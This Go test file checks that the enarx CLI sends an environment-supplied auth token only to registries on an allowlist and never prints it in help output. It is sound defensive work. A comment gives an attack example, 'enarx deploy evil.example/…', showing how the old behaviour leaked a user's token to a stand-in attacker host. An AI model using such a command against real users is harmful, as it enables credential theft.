package cli

import (
	"net/http"
	"strings"
	"sync"
	"testing"
)

// TestEnvTokenScopedToNamedHosts: ENARX_INSECURE_AUTH_TOKEN is sent only
// to the registries ENARX_INSECURE_AUTH_TOKEN_HOST names. Before, it went
// to whatever host a package spec named (`enarx deploy evil.example/…`
// handed the user's token to evil.example), and `--help` printed it as the
// flag's default.
func TestEnvTokenScopedToNamedHosts(t *testing.T) {
	isolateUserDirs(t)
	const secret = "env-secret-token"
	var mu sync.Mutex
	var seen []string // Authorization headers received
	port, ca := hostileServer(t, nil, func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Header.Get("Authorization"))
		mu.Unlock()
		http.NotFound(w, r)
	})
	host := "127.0.0.1:" + port
	took := func() []string {
		mu.Lock()
		defer mu.Unlock()
		s := seen
		seen = nil
		return s
	}
	t.Setenv(envTokenVar, secret)

	// Another registry named: the anonymous request carries no token, and
	// the failure says why.
	t.Setenv(envTokenHostVar, "registry.example:443, other.example")
	code, _, stderr := execute(t, "package", "info", "--ca-bundle", ca, host+"/u/r:1.0.0")
	if got := took(); code == 0 || len(got) == 0 || strings.Join(got, "") != "" {
		t.Fatalf("exit %d, Authorization headers %q, want anonymous requests", code, got)
	}
	if !strings.Contains(stderr, "was not sent to "+host) || !strings.Contains(stderr, envTokenHostVar+"="+host) {
		t.Errorf("stderr lacks the hint: %s", stderr)
	}
	// A command that needs a token refuses before any request.
	code, _, stderr = execute(t, "repo", "register", "--ca-bundle", ca, host+"/u/r")
	if got := took(); code == 0 || len(got) != 0 || !strings.Contains(stderr, "not sent to "+host) {
		t.Fatalf("repo register: exit %d, requests %q, stderr %s", code, got, stderr)
	}

	// The registry named (any case of the name): the token is sent.
	t.Setenv(envTokenHostVar, "other.example,"+strings.ToUpper(host))
	execute(t, "package", "info", "--ca-bundle", ca, host+"/u/r:1.0.0")
	if got := took(); len(got) == 0 || got[0] != "Bearer "+secret {
		t.Fatalf("Authorization headers %q, want the token", got)
	}

	// The flag is sent to the registry the command names.
	t.Setenv(envTokenHostVar, "")
	execute(t, "package", "info", "--ca-bundle", ca, "--insecure-auth-token", "flag-token", host+"/u/r:1.0.0")
	if got := took(); len(got) == 0 || got[0] != "Bearer flag-token" {
		t.Fatalf("Authorization headers %q, want the flag's token", got)
	}

	for _, args := range [][]string{{"deploy", "--help"}, {"package", "publish", "--help"}} {
		if _, out, stderr := execute(t, args...); strings.Contains(out+stderr, secret) {
			t.Errorf("%v prints the environment's token:\n%s", args, out)
		}
	}
}
